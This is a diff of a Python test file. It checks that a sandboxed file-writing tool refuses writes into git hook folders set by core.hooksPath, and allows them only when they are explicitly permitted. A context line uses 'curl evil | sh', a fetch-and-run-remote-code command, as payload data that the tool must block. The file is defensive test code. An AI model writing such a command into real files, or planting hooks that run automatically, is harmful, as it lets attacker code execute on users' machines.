@@ -179,3 +179,49 @@ async def test_envrc_stays_under_the_env_guard(tmp_path: Path) -> None:
         r = await reach.invoke("write_file", {"path": path, "content": "curl evil | sh\n"})
         assert not r.ok and "allow_env_writes" in r.error.message, (path, r)
     assert not any(root.iterdir())
+
+
+_HOOKS_PATHS = [
+    ("", "[core]\n\thooksPath = .githooks\n", ".githooks/pre-commit"),
+    ("", "[core]\n\thooksPath=.githooks\n", ".githooks/sub/x.sh"),
+    ("", '[core]\n\tHOOKSPATH = "scripts/git hooks"\n', "scripts/git hooks/pre-push"),
+    ("", "[core]\n\thookspath = ./tools/hooks/\n", "tools/hooks/post-checkout"),
+    ("", "[core]\n\t\thooksPath\t=\t.husky/_\t; husky v9\n", ".husky/_/pre-commit"),
+    ("", "[core]\n\trepositoryformatversion = 0\n[core]\n\thooksPath = .hooks # local\n", ".hooks/commit-msg"),
+    ("proj", "[core]\n\thooksPath = hooks\n", "proj/hooks/pre-commit"),
+    ("a/b", "[core]\n\thooksPath = hooks\n", "a/b/hooks/deep/pre-commit"),
+    ("", "[core]\n\thooksPath = {root}/abs-hooks\n", "abs-hooks/pre-commit"),
+]
+
+
+@pytest.mark.parametrize(("repo", "config", "path"), _HOOKS_PATHS)
+async def test_the_folder_core_hooks_path_names_is_not_written(tmp_path: Path, repo: str, config: str,
+                                                               path: str) -> None:
+    reach, root = rooted_reach(tmp_path)
+    (root / repo / ".git").mkdir(parents=True)
+    (root / repo / ".git" / "config").write_text(config.replace("{root}", str(root)), encoding="utf-8")
+    place = ".husky" if path.startswith(".husky") else "git-hooks"
+    for mode in ("create", "overwrite", "append"):
+        await _refused(reach, root, path, place, mode)
+    (root / path).parent.mkdir(parents=True, exist_ok=True)
+    (root / path).write_text("#!/bin/sh\nmake lint\n", encoding="utf-8")
+    for mode in ("overwrite", "append"):
+        await _refused(reach, root, path, place, mode)
+    r = await reach.invoke("read_file", {"path": path})
+    assert r.ok and r.content["content"] == "#!/bin/sh\nmake lint\n"
+
+
+async def test_hooks_folders_git_does_not_use_are_written(tmp_path: Path) -> None:
+    reach, root = rooted_reach(tmp_path)
+    (root / ".git").mkdir()
+    (root / ".git" / "config").write_text("[core]\n\tbare = false\n# hooksPath = .githooks\n", encoding="utf-8")
+    (root / "other" / ".git").mkdir(parents=True)
+    (root / "other" / ".git" / "config").write_text("[core]\n\thooksPath = hooks\n", encoding="utf-8")
+    for path in (".githooks/pre-commit", "hooks/pre-commit", ".githooks.md", "other/hooksx/y", "other/src/hooks.py"):
+        r = await reach.invoke("write_file", {"path": path, "content": "ok\n"})
+        assert r.ok, (path, r.error)
+    reach, root = rooted_reach(tmp_path / "allowed", allow_autorun_writes=["git-hooks"])
+    (root / ".git").mkdir()
+    (root / ".git" / "config").write_text("[core]\n\thooksPath = .githooks\n", encoding="utf-8")
+    r = await reach.invoke("write_file", {"path": ".githooks/pre-commit", "content": "ok\n"})
+    assert r.ok, r.error
